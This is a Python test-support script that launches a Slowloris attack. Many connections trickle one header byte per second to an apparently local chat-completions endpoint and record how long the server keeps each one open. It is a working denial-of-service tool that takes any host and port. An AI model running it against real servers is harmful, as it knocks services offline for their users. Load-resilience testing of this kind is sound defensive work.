"""Slowloris attackers, in a process of their own (so that the test's own measurements do not
share their event loop): ``python -m tests.support.slowloris HOST PORT CONNECTIONS SECONDS``.

Each attacker opens a connection, sends a request line and then a header byte every second, and
reconnects when the server cuts it off, until SECONDS are over. Prints, as JSON, how long each
connection lived before the server closed it."""

from __future__ import annotations

import asyncio
import sys
import time

import orjson


async def _attacker(host: str, port: int, until: float, closed_after: list[float]) -> None:
    while time.monotonic() < until:
        reader, writer = await asyncio.open_connection(host, port)
        opened = time.monotonic()
        writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        try:
            while time.monotonic() < until:
                writer.write(b"X")
                await writer.drain()
                if await _closed(reader, 1.0):
                    closed_after.append(time.monotonic() - opened)
                    break
        except OSError:
            closed_after.append(time.monotonic() - opened)
        finally:
            writer.close()


async def _closed(reader: asyncio.StreamReader, wait: float) -> bool:
    try:
        data = await asyncio.wait_for(reader.read(1), wait)
    except TimeoutError:
        return False
    except OSError:
        return True
    return data == b""


async def attack(host: str, port: int, connections: int, seconds: float) -> list[float]:
    closed_after: list[float] = []
    until = time.monotonic() + seconds
    await asyncio.gather(*(_attacker(host, port, until, closed_after) for _ in range(connections)))
    return closed_after


if __name__ == "__main__":
    host, port, connections, seconds = sys.argv[1:5]
    result = asyncio.run(attack(host, int(port), int(connections), float(seconds)))
    sys.stdout.buffer.write(orjson.dumps(result))
